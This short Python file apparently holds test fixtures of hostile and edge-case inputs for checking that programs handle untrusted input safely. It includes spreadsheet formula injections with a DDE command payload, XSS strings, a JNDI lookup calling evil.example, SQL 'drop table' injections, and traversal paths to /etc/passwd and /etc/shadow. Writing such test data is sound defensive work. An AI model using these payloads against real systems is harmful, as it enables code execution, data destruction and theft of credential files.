"""Values that break programs which trust their input. None is a person's."""

FORMULAS = ("=1+1", '=HYPERLINK("http://evil.example","x")', "+49-1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0")
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%n",
)
STATEMENTS = (
    "'; drop table kempt.event; --",
    "Robert'); DROP TABLE contact;--",
    '" or ""="',
    "\\'; --",
    "$$; commit; $$",
)
TURNED = (
    "\u202eelpmaxe",
    "\u2066left\u2069",
    "a\u200bb\u200dc",
    "\ufeffbom",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
)
CONTROLS = ("\x1b[2J\x1b[31mred", "bell\x07", "tab\there", "line\nbreak", "cr\rreturn", "\x7f\x85", "nul\0inside")
EMOJI = ("\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467", "e\u0301\u0301\u0301", "\u1e9e\ufb01\u2460")
NUMBERS = ("9" * 400, "1e309", "-0", "NaN")
WORDS = ("null", "None", "true", "1;2;3", '"quoted"', "a,b", " ", "\u00a0", "~", "#REF!")
PATHS = ("../../etc/passwd", "/dev/null", "C:\\Windows\\system32", "file:///etc/shadow", "..%2f..", "a" * 65_536)
DATES = ("0000-00-00", "9999-12-31", "31.02.2024", "1/1/1", "-1", "99999999999999", "+292278994-08-17")
MAILS = ("@", "a@b", "a@@b.example", "x" * 300 + "@x.example", "\u202ea@b.example", "a\0@b.example", "<a@b.example>")

EVERYTHING = (*FORMULAS, *SCRIPTS, *STATEMENTS, *TURNED, *CONTROLS, *EMOJI, *NUMBERS, *WORDS, *PATHS, *DATES, *MAILS)
